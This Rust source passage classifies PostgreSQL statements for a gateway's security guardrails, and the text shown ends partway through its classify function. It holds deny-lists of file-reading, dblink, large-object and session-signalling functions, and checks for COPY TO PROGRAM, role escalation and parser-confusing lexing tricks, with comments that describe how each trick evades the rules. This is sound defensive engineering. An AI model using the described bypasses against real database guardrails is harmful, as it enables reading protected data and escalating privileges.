//! SQL classification for the PostgreSQL driver, on `sqlparser` (PostgreSQL dialect): each
//! statement's kind, the tables it names, whether an UPDATE/DELETE has a WHERE, whether a COPY
//! runs a program — and the built-in guardrails that refuse the dangerous ones.

use std::collections::HashMap;
use std::ops::ControlFlow;
use std::sync::{Arc, LazyLock, Mutex};

use sqlparser::ast::{
    AssignmentTarget, CopySource, CopyTarget, Expr, FunctionArg, FunctionArgExpr, FunctionArguments, ObjectName, Query,
    SelectItem, Set, SetExpr, Statement, TableFactor, Visit, Visitor, visit_expressions, visit_relations,
};
use sqlparser::dialect::PostgreSqlDialect;
use sqlparser::parser::Parser;

use super::{Request, SqlKind};

/// One classified statement.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SqlStatement {
    /// Its kind.
    pub kind: SqlKind,
    /// Tables it reads or writes, lower-case.
    pub tables: Vec<String>,
    /// Whether every UPDATE and DELETE in it (nested ones too) has a WHERE clause.
    pub has_where: bool,
    /// COPY … TO/FROM PROGRAM.
    pub copy_program: bool,
    /// COPY … TO/FROM a file on the server.
    pub copy_file: bool,
    /// DROP, TRUNCATE or ALTER (of any object).
    pub destructive_ddl: bool,
    /// Columns it names (projection, predicates, assignments, insert lists), lower-case; `None`
    /// when they cannot be known (`SELECT *`, an INSERT without a column list).
    pub columns: Option<Vec<String>>,
    /// It names a setting that changes how the server reads SQL text
    /// (`standard_conforming_strings`, `client_encoding`): after such a change the server and
    /// this parser could read one string differently.
    pub changes_lexing: bool,
    /// It calls a function that runs SQL given as text, reaches the server's files or large
    /// objects, or sets a setting named at run time (`query_to_xml`, `dblink`, `pg_read_file`,
    /// `lo_get`, `set_config` …): what that touches is not in the statement for the rules to see.
    pub opaque_call: Option<String>,
    /// It changes whose privileges the upstream session runs with (`SET ROLE`, `SET SESSION
    /// AUTHORIZATION`, `SET role = …`): the gateway's upstream user may be a member of roles that
    /// can do far more than the caller.
    pub changes_role: bool,
    /// It defines code the server runs later — a function, procedure, trigger, rule or
    /// extension — whose body is not SQL the rules see (`CREATE FUNCTION f() … AS $$ DROP TABLE
    /// patients $$`, then `SELECT f()`).
    pub server_code: bool,
    /// Columns it returns other than as themselves — inside an expression (`name || ''`), from
    /// a set operation's branches, or in RETURNING — lower-case. PostgreSQL names no source
    /// column for such a result, so a column rule of the masker cannot follow it. `None` when
    /// it returns a whole row (`SELECT p FROM patients p`, `row_to_json(p.*)`).
    pub derived: Option<Vec<String>>,
    /// Its text may read differently to PostgreSQL's scanner than to this parser, and how:
    /// a name written as a `U&"…"` escape (decoded by PostgreSQL only), an operator that runs
    /// into `--` or `/*` (PostgreSQL ends the operator there and reads a comment), a `$` that
    /// is neither a `$n` parameter nor a dollar quote this parser reads (`$€$` is one to
    /// PostgreSQL). Either way the statement the rules would judge is not the one that runs.
    pub misread: Option<&'static str>,
    /// It reads rows as well as doing what its kind says: `INSERT … SELECT`, `CREATE TABLE …
    /// AS SELECT`, `COPY … TO`, a subquery in an UPDATE. Rules on SELECT judge it too.
    pub reads: bool,
    /// Every kind of write it carries besides its own kind (a MERGE's UPDATE and DELETE, an
    /// `INSERT … ON CONFLICT DO UPDATE`'s UPDATE, a DELETE in a WITH): rules on those judge it too.
    pub also: Vec<SqlKind>,
    /// It reaches the server's other sessions — every caller of the route shares the gateway's
    /// upstream role: their statement texts (`pg_stat_activity`, `pg_stat_statements`) or a
    /// signal to them (`pg_terminate_backend`, `pg_cancel_backend`). The view or function named.
    pub other_sessions: Option<String>,
    /// It reads the planner's statistics (`pg_stats`, `pg_statistic` …), which hold samples of
    /// the values of every analyzed column, whatever the rules on their tables say.
    pub statistics: Option<String>,
    /// `PREPARE name AS …`: the name (as PostgreSQL folds it), so that an `EXECUTE name` after a
    /// reload can be judged again by what was prepared.
    pub prepares: Option<String>,
    /// `EXECUTE name` (also under EXPLAIN): the name.
    pub executes: Option<String>,
    /// `DEALLOCATE name` (`Some(name)`), or `DEALLOCATE ALL` / `DISCARD ALL` (`None`).
    pub deallocates: Option<Option<String>>,
}

impl SqlStatement {
    /// The request the filter chain decides for what the statement's kind says.
    pub fn request(&self) -> Request {
        // Names hidden from the parser (escapes, SQL run from text) leave the tables unknown.
        let tables = (self.misread.is_none() && self.opaque_call.is_none()).then(|| self.tables.clone());
        Request::Sql { kind: self.kind, tables, columns: self.columns.clone() }
    }

    /// Every request the filter chain decides for the statement: its kind, and a SELECT of the
    /// same tables when it also reads rows (see [`SqlStatement::reads`]).
    pub fn requests(&self) -> Vec<Request> {
        let main = self.request();
        let Request::Sql { tables, columns, .. } = &main else { return vec![main] };
        let mut kinds: Vec<SqlKind> = self.also.clone();
        if self.reads {
            kinds.push(SqlKind::Select);
        }
        kinds.retain(|k| *k != self.kind);
        kinds.dedup();
        let others: Vec<Request> = kinds
            .into_iter()
            .map(|kind| Request::Sql { kind, tables: tables.clone(), columns: columns.clone() })
            .collect();
        std::iter::once(main).chain(others).collect()
    }
}

/// Where this parser's tokenizer and PostgreSQL's scanner would part ways on `sql`, if they
/// would (see [`SqlStatement::misread`]). Texts without `&"`, `$`, `--` or `/*` cannot.
fn misread(sql: &str) -> Option<&'static str> {
    use sqlparser::tokenizer::{Token, Tokenizer};
    let b = sql.as_bytes();
    let risky = |w: &[u8]| w == b"&\"" || w == b"--" || w == b"/*";
    if !b.contains(&b'$') && !b.windows(2).any(risky) {
        return None;
    }
    let Ok(tokens) = Tokenizer::new(&PostgreSqlDialect {}, sql).tokenize() else {
        return Some("its text does not tokenize");
    };
    let escaped_name = tokens.windows(3).any(|w| match w {
        [Token::Word(u), Token::Ampersand, Token::Word(name)] => {
            u.quote_style.is_none() && u.value.eq_ignore_ascii_case("u") && name.quote_style == Some('"')
        }
        _ => false,
    });
    if escaped_name {
        return Some("it writes a name as a U&\"…\" escape, which PostgreSQL decodes and the rules would not");
    }
    // Runs of adjacent operator tokens: PostgreSQL's scanner ends an operator where `--` or
    // `/*` begins and reads a comment from there.
    const OPERATOR: &[u8] = b"+-*/<>=~!@#%^&|`?";
    let mut run = String::new();
    for t in &tokens {
        if matches!(t, Token::Whitespace(_)) {
            // (Comments included: this parser read them as PostgreSQL does.)
            run.clear();
            continue;
        }
        let text = t.to_string();
        if !text.is_empty() && text.bytes().all(|c| OPERATOR.contains(&c)) {
            run.push_str(&text);
            if run.contains("--") || run.contains("/*") {
                return Some("an operator runs into `--` or `/*`, where PostgreSQL reads a comment");
            }
        } else {
            run.clear();
        }
        match t {
            // PostgreSQL's parameters are `$` and digits; anything else after a `$` is part of
            // a dollar quote to it (its tags may hold any byte past ASCII).
            Token::Placeholder(p)
                if p.starts_with('$') && !(p.len() > 1 && p[1..].bytes().all(|c| c.is_ascii_digit())) =>
            {
                return Some("a `$` that is neither a parameter nor a dollar quote this parser reads");
            }
            Token::DollarQuotedString(q)
                if q.tag.as_ref().is_some_and(|t| t.starts_with(|c: char| c.is_ascii_digit())) =>
            {
                return Some("a dollar-quote tag that starts with a digit, which PostgreSQL reads as a parameter");
            }
            _ => {}
        }
    }
    None
}

/// DROP of an object other than those `Statement::Drop` covers (sqlparser gives these their own
/// statements).
fn drops_object(s: &Statement) -> bool {
    matches!(
        s,
        Statement::DropFunction(_)
            | Statement::DropDomain(_)
            | Statement::DropProcedure { .. }
            | Statement::DropPolicy(_)
            | Statement::DropRule(_)
            | Statement::DropExtension(_)
            | Statement::DropOperator(_)
            | Statement::DropOperatorFamily(_)
            | Statement::DropOperatorClass(_)
            | Statement::DropTrigger(_)
    )
}

/// The kinds that write, least destructive first.
const WRITES: [SqlKind; 4] = [SqlKind::Insert, SqlKind::Merge, SqlKind::Update, SqlKind::Delete];

/// ALTER of a schema object (a table, view, function, type …; roles are DCL).
fn alters_object(s: &Statement) -> bool {
    matches!(
        s,
        Statement::AlterTable(_)
            | Statement::AlterSchema(_)
            | Statement::AlterIndex { .. }
            | Statement::AlterView(_)
            | Statement::AlterFunction(_)
            | Statement::AlterType(_)
            | Statement::AlterCollation(_)
            | Statement::AlterOperator(_)
            | Statement::AlterOperatorFamily(_)
            | Statement::AlterOperatorClass(_)
            | Statement::AlterTextSearch(_)
            | Statement::AlterPolicy(_)
            | Statement::AlterTrigger(_)
    )
}

fn kind_of(s: &Statement) -> SqlKind {
    match s {
        Statement::Query(_) | Statement::Explain { .. } | Statement::ShowVariable { .. } => SqlKind::Select,
        // `DECLARE c CURSOR FOR SELECT …`: its FETCHes return the query's rows.
        Statement::Declare { stmts, .. } if stmts.iter().any(|d| d.for_query.is_some()) => SqlKind::Select,
        Statement::Insert(_) => SqlKind::Insert,
        Statement::Update(_) => SqlKind::Update,
        Statement::Delete(_) => SqlKind::Delete,
        Statement::Merge(_) => SqlKind::Merge,
        Statement::CreateTable(_)
        | Statement::CreateFunction(_)
        | Statement::CreateProcedure { .. }
        | Statement::CreateTrigger(_)
        | Statement::CreateRule(_)
        | Statement::CreateExtension(_)
        | Statement::CreateSequence { .. }
        | Statement::CreateType { .. }
        | Statement::CreateDomain(_)
        | Statement::CreatePolicy(_)
        | Statement::CreateAggregate(_)
        | Statement::CreateOperator(_)
        | Statement::Comment { .. }
        | Statement::CreateView(_)
        | Statement::CreateIndex(_)
        | Statement::CreateSchema { .. }
        | Statement::Drop { .. }
        | Statement::Truncate { .. } => SqlKind::Ddl,
        s if alters_object(s) || drops_object(s) => SqlKind::Ddl,
        Statement::Grant(_)
        | Statement::Revoke(_)
        | Statement::GrantRole(_)
        | Statement::RevokeRole(_)
        | Statement::CreateUser(_)
        | Statement::CreateRole(_)
        | Statement::AlterRole { .. }
        | Statement::AlterUser(_)
        | Statement::AlterDefaultPrivileges(_) => SqlKind::Dcl,
        Statement::Copy { .. } => SqlKind::Copy,
        Statement::Call(_) => SqlKind::Call,
        Statement::Set(_) => SqlKind::Set,
        Statement::StartTransaction { .. } | Statement::Commit { .. } | Statement::Rollback { .. } => {
            SqlKind::Transaction
        }
        _ => SqlKind::Other,
    }
}

fn set_has_wildcard(body: &SetExpr) -> bool {
    match body {
        SetExpr::Select(s) => {
            s.projection.iter().any(|i| matches!(i, SelectItem::Wildcard(_) | SelectItem::QualifiedWildcard(..)))
        }
        SetExpr::Query(q) => query_has_wildcard(q),
        SetExpr::SetOperation { left, right, .. } => set_has_wildcard(left) || set_has_wildcard(right),
        // `TABLE patients` returns every column.
        SetExpr::Table(_) => true,
        _ => false,
    }
}

fn query_has_wildcard(q: &Query) -> bool {
    set_has_wildcard(&q.body)
}

fn last_segment(name: &str) -> String {
    name.rsplit('.').next().unwrap_or(name).trim_matches('"').to_lowercase()
}

/// The columns a statement names, or `None` when they cannot be known.
fn columns_of(s: &Statement) -> Option<Vec<String>> {
    let mut cols: Vec<String> = Vec::new();
    let mut push = |c: String| {
        if !cols.contains(&c) {
            cols.push(c);
        }
    };
    fn assigned(assignments: &[sqlparser::ast::Assignment]) -> Vec<String> {
        let mut out = Vec::new();
        for a in assignments {
            match &a.target {
                AssignmentTarget::ColumnName(n) => out.push(last_segment(&n.to_string())),
                AssignmentTarget::Tuple(ns) => out.extend(ns.iter().map(|n| last_segment(&n.to_string()))),
            }
        }
        out
    }
    match s {
        Statement::Query(q) if query_has_wildcard(q) => return None,
        Statement::Insert(i) if i.columns.is_empty() => return None,
        Statement::Insert(i) => {
            // `ON CONFLICT … DO UPDATE SET ssn = …` sets columns too.
            if let Some(sqlparser::ast::OnInsert::OnConflict(c)) = &i.on
                && let sqlparser::ast::OnConflictAction::DoUpdate(u) = &c.action
            {
                assigned(&u.assignments).into_iter().for_each(&mut push);
            }
            i.columns.iter().for_each(|c| push(last_segment(&c.to_string())));
        }
        Statement::Update(u) => assigned(&u.assignments).into_iter().for_each(&mut push),
        Statement::Merge(m) => {
            for c in &m.clauses {
                match &c.action {
                    sqlparser::ast::MergeAction::Update(u) => match &u.kind {
                        sqlparser::ast::MergeUpdateKind::Set(assignments) => {
                            assigned(assignments).into_iter().for_each(&mut push)
                        }
                        // `UPDATE SET *`: every column.
                        _ => return None,
                    },
                    sqlparser::ast::MergeAction::Insert(i) if i.columns.is_empty() => return None,
                    sqlparser::ast::MergeAction::Insert(i) => {
                        i.columns.iter().for_each(|c| push(last_segment(&c.to_string())));
                    }
                    _ => {}
                }
            }
        }
        _ => {}
    }
    let _ = visit_expressions(s, |e| {
        match e {
            Expr::Identifier(i) => push(i.value.to_lowercase()),
            Expr::CompoundIdentifier(parts) => {
                if let Some(last) = parts.last() {
                    push(last.value.to_lowercase());
                }
            }
            _ => {}
        }
        ControlFlow::<()>::Continue(())
    });
    Some(cols)
}

/// Functions that run SQL given as text, read or write the server's files, or its large objects
/// (data kept outside any table): a statement that calls one does more than its text shows.
/// (`set_config` is judged by the setting it names; see [`Walk::set_config`].)
const OPAQUE_FUNCTIONS: [&str; 30] = [
    "ts_stat",
    "ts_rewrite",
    "query_to_xml",
    "query_to_xmlschema",
    "query_to_xml_and_xmlschema",
    "cursor_to_xml",
    "cursor_to_xmlschema",
    "table_to_xml",
    "table_to_xmlschema",
    "table_to_xml_and_xmlschema",
    "schema_to_xml",
    "schema_to_xml_and_xmlschema",
    "database_to_xml",
    "database_to_xml_and_xmlschema",
    "dblink",
    "dblink_exec",
    "dblink_send_query",
    "dblink_open",
    "lo_import",
    "lo_export",
    "lo_get",
    "lo_open",
    "loread",
    "lo_put",
    "lowrite",
    "lo_from_bytea",
    "pg_read_file",
    "pg_read_binary_file",
    "pg_ls_dir",
    "pg_stat_file",
];

/// Functions of one argument that take a whole row and return its values, as `alias.f` calls
/// them (`p.to_jsonb` is `to_jsonb(p)`), and the types a row casts to that way (`p.varchar`).
/// (`text`, `name` and `format` would do too, but are common column names, which PostgreSQL
/// reads `p.text` as first.)
const ROW_FUNCTIONS: [&str; 10] = [
    "varchar",
    "bpchar",
    "to_json",
    "to_jsonb",
    "row_to_json",
    "quote_literal",
    "quote_nullable",
    "hstore",
    "json_build_array",
    "jsonb_build_array",
];

/// The planner's statistics: most common values and histogram bounds of every analyzed column.
const STATISTICS: [&str; 6] =
    ["pg_stats", "pg_stats_ext", "pg_stats_ext_exprs", "pg_statistic", "pg_statistic_ext", "pg_statistic_ext_data"];

/// A name as PostgreSQL folds it: lower case unless quoted.
fn ident_name(i: &sqlparser::ast::Ident) -> String {
    if i.quote_style.is_some() { i.value.clone() } else { i.value.to_lowercase() }
}

/// Views and functions that show other sessions' statement texts (PHI in their literals), or
/// signal other sessions.
const OTHER_SESSIONS: [&str; 9] = [
    "pg_stat_activity",
    "pg_stat_get_activity",
    "pg_stat_statements",
    "pg_stat_statements_info",
    "pg_cancel_backend",
    "pg_terminate_backend",
    "pg_signal_backend",
    "pg_stat_get_backend_activity",
    "pg_locks",
];

/// A relation's name as rules match it: unquoted, lower case, and — when qualified — its last
/// part too, so that a rule on `secrets` also meets `public.secrets` and `"Secrets"`.
fn relation_names(name: &ObjectName) -> Vec<String> {
    let parts: Vec<String> = name.0.iter().filter_map(|p| p.as_ident()).map(|i| i.value.to_lowercase()).collect();
    let mut out = vec![parts.join(".")];
    if parts.len() > 1
        && let Some(last) = parts.last()
    {
        out.push(last.clone());
    }
    out
}

/// Table aliases, `TABLE name` set expressions and calls of opaque functions in a statement.
#[derive(Default)]
struct Walk {
    aliases: Vec<String>,
    tables: Vec<String>,
    opaque: Option<String>,
    /// A function was handed a whole row (`row_to_json(p.*)`).
    whole_row: bool,
    /// Every INSERT, UPDATE, DELETE and MERGE in the statement, the statement itself included
    /// (`WITH d AS (DELETE FROM t RETURNING *) SELECT …` and `COPY (DELETE …) TO STDOUT` write
    /// too): its kind, and for UPDATE and DELETE whether it has a WHERE.
    writes: Vec<(SqlKind, bool)>,
    /// Some query in the statement, at any depth, selects `*`.
    wildcard: bool,
    /// See [`SqlStatement::derived`].
    derived: Vec<String>,
    /// Unqualified names where a returned value was expected: a table or alias among them is a
    /// whole row (`SELECT p FROM patients p`, `row_to_json(p)`).
    bare: Vec<String>,
    /// Some query in the statement reads rows (a SELECT or `TABLE t`, not only VALUES).
    reads: bool,
    /// See [`SqlStatement::other_sessions`] (functions; views are found among the tables).
    other_sessions: Option<String>,
    /// Qualifiers of `q.f` where `f` takes a whole row (`p.to_jsonb`): a table or alias among
    /// them is a whole row.
    row_calls: Vec<String>,
}

impl Visitor for Walk {
    type Break = ();

    fn pre_visit_statement(&mut self, s: &Statement) -> ControlFlow<()> {
        let write = match s {
            Statement::Insert(_) => Some((SqlKind::Insert, true)),
            Statement::Update(u) => Some((SqlKind::Update, u.selection.is_some())),
            Statement::Delete(d) => Some((SqlKind::Delete, d.selection.is_some())),
            Statement::Merge(_) => Some((SqlKind::Merge, true)),
            _ => None,
        };
        self.writes.extend(write);
        // What a MERGE does is in its clauses: each INSERT, UPDATE or DELETE counts as one
        // (its ON condition plays the part of a WHERE, as in `UPDATE … FROM`). It reads its
        // source, as `UPDATE … FROM` and `DELETE … USING` read theirs.
        if let Statement::Merge(m) = s {
            self.reads = true;
            for c in &m.clauses {
                match &c.action {
                    sqlparser::ast::MergeAction::Delete { .. } => self.writes.push((SqlKind::Delete, true)),
                    sqlparser::ast::MergeAction::Update(_) => self.writes.push((SqlKind::Update, true)),
                    sqlparser::ast::MergeAction::Insert(_) => self.writes.push((SqlKind::Insert, true)),
                    sqlparser::ast::MergeAction::DoNothing { .. } => {}
                }
            }
        }
        match s {
            Statement::Update(u) if u.from.is_some() => self.reads = true,
            Statement::Delete(d) if d.using.is_some() => self.reads = true,
            _ => {}
        }
        // `INSERT … ON CONFLICT … DO UPDATE` updates the rows it conflicts with (the conflict
        // target plays the part of a WHERE).
        if let Statement::Insert(i) = s
            && let Some(sqlparser::ast::OnInsert::OnConflict(c)) = &i.on
            && matches!(c.action, sqlparser::ast::OnConflictAction::DoUpdate(_))
        {
            self.writes.push((SqlKind::Update, true));
        }
        let returning = match s {
            Statement::Insert(i) => i.returning.as_deref(),
            Statement::Update(u) => u.returning.as_deref(),
            Statement::Delete(d) => d.returning.as_deref(),
            _ => None,
        };
        // PostgreSQL names the source column of a plain RETURNING item, as of a SELECT's.
        for item in returning.unwrap_or_default() {
            if let SelectItem::UnnamedExpr(e) | SelectItem::ExprWithAlias { expr: e, .. } = item {
                projected(e, false, &mut self.derived, &mut self.bare);
            }
        }
        ControlFlow::Continue(())
    }

    fn pre_visit_table_factor(&mut self, tf: &TableFactor) -> ControlFlow<()> {
        // Values computed in FROM (`unnest(ARRAY(SELECT name …))`, a table function's
        // arguments) have no source column either.
        match tf {
            TableFactor::Table { args: None, .. } | TableFactor::Derived { .. } | TableFactor::NestedJoin { .. } => {}
            other => {
                let _ = visit_expressions(other, |e| {
                    identifiers(e, &mut self.derived, &mut self.bare);
                    ControlFlow::<()>::Continue(())
                });
            }
        }
        if let TableFactor::Table { alias: Some(a), .. } | TableFactor::Derived { alias: Some(a), .. } = tf {
            self.aliases.push(a.name.value.to_lowercase());
        }
        // `patients p(id, name, x)` renames a table's columns by position: `x` may be `ssn`.
        // (A subquery's or a VALUES list's columns are named where they are made.)
        if let TableFactor::Table { args: None, alias: Some(a), .. } = tf
            && !a.columns.is_empty()
        {
            self.wildcard = true;
        }
        // A set-returning function in FROM (`FROM dblink(…) AS t(…)`).
        let called = match tf {
            TableFactor::Table { name, args: Some(_), .. } | TableFactor::Function { name, .. } => Some(name),
            _ => None,
        };
        if let Some(name) = called {
            self.opaque_name(name);
        }
        ControlFlow::Continue(())
    }

    fn pre_visit_query(&mut self, q: &Query) -> ControlFlow<()> {
        fn reads(body: &SetExpr) -> bool {
            match body {
                SetExpr::Values(_) => false,
                SetExpr::SetOperation { left, right, .. } => reads(left) || reads(right),
                _ => true,
            }
        }
        self.reads |= reads(&q.body);
        self.wildcard |= query_has_wildcard(q);
        derived_columns(&q.body, false, &mut self.derived, &mut self.bare);
        fn tables(body: &SetExpr, out: &mut Vec<String>) {
            match body {
                // `TABLE patients`: a relation that `visit_relations` does not report.
                SetExpr::Table(t) => {
                    if let Some(name) = &t.table_name {
                        out.push(name.value.to_lowercase());
                        if let Some(schema) = &t.schema_name {
                            out.push(format!("{}.{}", schema.value.to_lowercase(), name.value.to_lowercase()));
                        }
                    }
                }
                SetExpr::SetOperation { left, right, .. } => {
                    tables(left, out);
                    tables(right, out);
                }
                _ => {}
            }
        }
        tables(&q.body, &mut self.tables);
        ControlFlow::Continue(())
    }

    fn pre_visit_expr(&mut self, e: &Expr) -> ControlFlow<()> {
        match e {
            // `(x).f` and `alias.f` call `f(x)` when `f` is no column (PostgreSQL's attribute
            // notation for functions of one argument).
            Expr::CompoundFieldAccess { access_chain, .. } => {
                for a in access_chain {
                    if let sqlparser::ast::AccessExpr::Dot(Expr::Identifier(name)) = a {
                        self.called(&ident_name(name));
                        self.whole_row |= ROW_FUNCTIONS.contains(&ident_name(name).as_str());
                    }
                }
            }
            Expr::CompoundIdentifier(parts) if parts.len() >= 2 => {
                for name in &parts[1..] {
                    self.called(&ident_name(name));
                }
                if let Some(last) = parts.last() {
                    let qualifier = ident_name(&parts[parts.len() - 2]);
                    if ROW_FUNCTIONS.contains(&ident_name(last).as_str()) {
                        self.row_calls.push(qualifier);
                    }
                }
            }
            // `p.*` anywhere but a select list (`(p.*)::text`, `ROW(p.*)`): every column.
            Expr::QualifiedWildcard(..) | Expr::Wildcard(..) => self.wildcard = true,
            _ => {}
        }
        if let Expr::Function(f) = e {
            self.opaque_name(&f.name);
            self.set_config(f);
            if let FunctionArguments::List(list) = &f.args
                && list.args.iter().any(|a| {
                    matches!(
                        a,
                        FunctionArg::Unnamed(FunctionArgExpr::QualifiedWildcard(_))
                            | FunctionArg::Named { arg: FunctionArgExpr::QualifiedWildcard(_), .. }
                    )
                })
            {
                self.whole_row = true;
            }
        }
        ControlFlow::Continue(())
    }
}

/// The columns a query body returns other than as themselves (see [`SqlStatement::derived`]),
/// and the unqualified names it returns; with `all`, every column it returns (a set
/// operation's branch, a VALUES list).
fn derived_columns(body: &SetExpr, all: bool, out: &mut Vec<String>, bare: &mut Vec<String>) {
    match body {
        SetExpr::Select(s) => {
            for item in &s.projection {
                if let SelectItem::UnnamedExpr(e) | SelectItem::ExprWithAlias { expr: e, .. } = item {
                    projected(e, all, out, bare);
                }
            }
        }
        SetExpr::SetOperation { left, right, .. } => {
            derived_columns(left, true, out, bare);
            derived_columns(right, true, out, bare);
        }
        SetExpr::Query(q) => derived_columns(&q.body, all, out, bare),
        SetExpr::Values(v) => v.rows.iter().flat_map(|r| &r.content).for_each(|e| identifiers(e, out, bare)),
        _ => {}
    }
}

/// One returned item: a plain column reference keeps its source (unless `all`); anything else
/// derives from every column it names.
fn projected(e: &Expr, all: bool, out: &mut Vec<String>, bare: &mut Vec<String>) {
    fn plain(e: &Expr) -> bool {
        match e {
            Expr::Identifier(_) | Expr::CompoundIdentifier(_) => true,
            Expr::Nested(inner) => plain(inner),
            _ => false,
        }
    }
    if all || !plain(e) {
        identifiers(e, out, bare);
    } else if let Expr::Identifier(i) = e {
        push_new(bare, i.value.to_lowercase());
    }
}

fn push_new(list: &mut Vec<String>, name: String) {
    if !list.contains(&name) {
        list.push(name);
    }
}

/// Every column an expression names, subqueries in it included (the last part, lower-case);
/// unqualified names also go to `bare`.
fn identifiers(e: &Expr, out: &mut Vec<String>, bare: &mut Vec<String>) {
    let _ = visit_expressions(e, |x| {
        match x {
            Expr::Identifier(i) => {
                push_new(out, i.value.to_lowercase());
                push_new(bare, i.value.to_lowercase());
            }
            Expr::CompoundIdentifier(parts) => {
                if let Some(last) = parts.last() {
                    push_new(out, last.value.to_lowercase());
                }
            }
            _ => {}
        }
        ControlFlow::<()>::Continue(())
    });
}

impl Walk {
    /// `set_config(name, …)` is `SET name`: harmless for most settings (pg_dump and its kin set
    /// `search_path` so), but not for the role or the settings that change how SQL text is read,
    /// nor for a name the statement computes, which the rules cannot know.
    fn set_config(&mut self, f: &sqlparser::ast::Function) {
        use sqlparser::ast::{Value, ValueWithSpan};
        if f.name.0.last().and_then(|p| p.as_ident()).is_none_or(|i| !i.value.eq_ignore_ascii_case("set_config")) {
            return;
        }
        let first = match &f.args {
            FunctionArguments::List(list) => list.args.first(),
            _ => None,
        };
        let named = match first {
            Some(FunctionArg::Unnamed(FunctionArgExpr::Expr(Expr::Value(ValueWithSpan {
                value: Value::SingleQuotedString(s),
                ..
            })))) => Some(s.to_lowercase()),
            _ => None,
        };
        let harmless = named.is_some_and(|n| {
            !["role", "session_authorization"].contains(&n.as_str()) && !LEXING_SETTINGS.contains(&n.as_str())
        });
        if !harmless {
            self.opaque.get_or_insert_with(|| "set_config".to_owned());
        }
    }

    /// A function called by `name`, however written: is it one the rules cannot see through?
    fn called(&mut self, name: &str) {
        if OTHER_SESSIONS.contains(&name) {
            self.other_sessions.get_or_insert_with(|| name.to_owned());
        }
        if OPAQUE_FUNCTIONS.contains(&name) || ["dblink", "crosstab", "connectby"].iter().any(|p| name.starts_with(p)) {
            self.opaque.get_or_insert_with(|| name.to_owned());
        }
    }

    fn opaque_name(&mut self, name: &ObjectName) {
        if let Some(name) = name.0.last().and_then(|p| p.as_ident()) {
            let name = name.value.to_lowercase();
            if OTHER_SESSIONS.contains(&name.as_str()) {
                self.other_sessions.get_or_insert_with(|| name.clone());
            }
            if OPAQUE_FUNCTIONS.contains(&name.as_str())
                || ["dblink", "crosstab", "connectby"].iter().any(|p| name.starts_with(p))
            {
                self.opaque.get_or_insert(name);
            }
        }
    }
}

/// Settings that change how the server reads SQL text. With `standard_conforming_strings` off a
/// backslash escapes a quote; in a client-only multi-byte encoding (SJIS, BIG5, GBK, …) the second
/// byte of a character can be a quote or a backslash. Either way the server would read a string
/// differently from this parser, so a statement could hide another from the guardrails.
const LEXING_SETTINGS: [&str; 2] = ["standard_conforming_strings", "client_encoding"];

/// Whether `hay` contains `needle` (ASCII lower case), ignoring ASCII case.
fn contains_ignore_case(hay: &str, needle: &str) -> bool {
    hay.as_bytes().windows(needle.len()).any(|w| w.eq_ignore_ascii_case(needle.as_bytes()))
}

/// Objects a statement names outside of the relations `visit_relations` reports: the table of a
/// `COPY t TO …`, what a DROP drops (and the table of a dropped trigger, policy or rule), the
/// tables of a GRANT or REVOKE, the object of a COMMENT.
fn named_objects(s: &Statement) -> Vec<&ObjectName> {
    use sqlparser::ast::GrantObjects;
    fn granted(objects: &Option<GrantObjects>) -> Vec<&ObjectName> {
        match objects {
            Some(GrantObjects::Tables(t) | GrantObjects::Views(t) | GrantObjects::Sequences(t)) => t.iter().collect(),
            _ => Vec::new(),
        }
    }
    match s {
        Statement::Copy { source: CopySource::Table { table_name, .. }, .. } => vec![table_name],
        Statement::Drop { names, .. } => names.iter().collect(),
        Statement::Grant(g) => granted(&g.objects),
        Statement::Revoke(r) => granted(&r.objects),
        Statement::Comment { object_name, .. } => vec![object_name],
        Statement::DropTrigger(t) => t.table_name.iter().collect(),
        Statement::DropPolicy(p) => vec![&p.table_name],
        Statement::DropRule(r) => vec![&r.table_name],
        _ => Vec::new(),
    }
}

/// The statement that runs: `EXPLAIN ANALYZE DELETE …` runs the DELETE, and `PREPARE p AS …`
/// is judged by what it prepares (its later `EXECUTE p` names no table). A plain EXPLAIN is
/// judged by its statement too: refusing to plan what may not run costs little.
fn effective(s: &Statement) -> &Statement {
    match s {
        Statement::Explain { statement, .. } | Statement::Prepare { statement, .. } => effective(statement),
        other => other,
    }
}

/// Classifies every statement of `sql`; an error says why it does not parse.
pub fn classify(sql: &str) -> Result<Vec<SqlStatement>, String> {
    let statements = Parser::parse_sql(&PostgreSqlDialect {}, sql).map_err(|e| e.to_string())?;
    let names_lexing = LEXING_SETTINGS.iter().any(|n| contains_ignore_case(sql, n));
    let misread = misread(sql);
    Ok(statements
        .iter()
        .map(|outer| {
            let s = effective(outer);
            let mut tables: Vec<String> = Vec::new();
            let mut add = |t: String| {
                if !tables.contains(&t) {
                    tables.push(t);
                }
            };
            let _ = visit_relations(outer, |name| {
                relation_names(name).into_iter().for_each(&mut add);
                ControlFlow::<()>::Continue(())
            });
            named_objects(s).into_iter().flat_map(relation_names).for_each(&mut add);
            let mut walk = Walk::default();
            let _ = outer.visit(&mut walk);
            walk.tables.iter().cloned().for_each(&mut add);
            // Every UPDATE and DELETE in it needs its WHERE.
            let has_where = walk.writes.iter().all(|&(_, w)| w);
            // A query or COPY that writes is judged as the write it carries (the most
            // destructive one).
            let kind = match kind_of(s) {
                k @ (SqlKind::Select | SqlKind::Copy | SqlKind::Other | SqlKind::Merge | SqlKind::Insert) => {
                    walk.writes.iter().map(|&(w, _)| w).max_by_key(|w| WRITES.iter().position(|x| x == w)).unwrap_or(k)
                }
                k => k,
            };
            let copy_program = matches!(s, Statement::Copy { target: CopyTarget::Program { .. }, .. })
                || matches!(
                    s,
                    Statement::Copy { source: CopySource::Query(_), target: CopyTarget::Program { .. }, .. }
                );
            let copy_file = matches!(s, Statement::Copy { target: CopyTarget::File { .. }, .. });
            let changes_role = match s {
                // Granting a role: its privileges come by inheritance, without a SET ROLE.
                Statement::Set(Set::SetRole { .. } | Set::SetSessionAuthorization(_)) | Statement::GrantRole(_) => true,
                // `CREATE ROLE x IN ROLE pg_read_server_files ROLE me` grants as GRANT does.
                Statement::CreateRole(r) => {
                    !(r.in_role.is_empty()
                        && r.in_group.is_empty()
                        && r.role.is_empty()
                        && r.user.is_empty()
                        && r.admin.is_empty())
                }
                Statement::Set(Set::SingleAssignment { variable, .. }) => {
                    let name = last_segment(&variable.to_string());
                    name == "role" || name == "session_authorization"
                }
                _ => false,
            };
            let destructive_ddl = alters_object(s)
                || drops_object(s)
                || matches!(
                    s,
                    Statement::Drop { .. }
                        | Statement::Truncate { .. }
                        | Statement::AlterRole { .. }
                        | Statement::AlterUser(_)
                        | Statement::AlterDefaultPrivileges(_)
                );
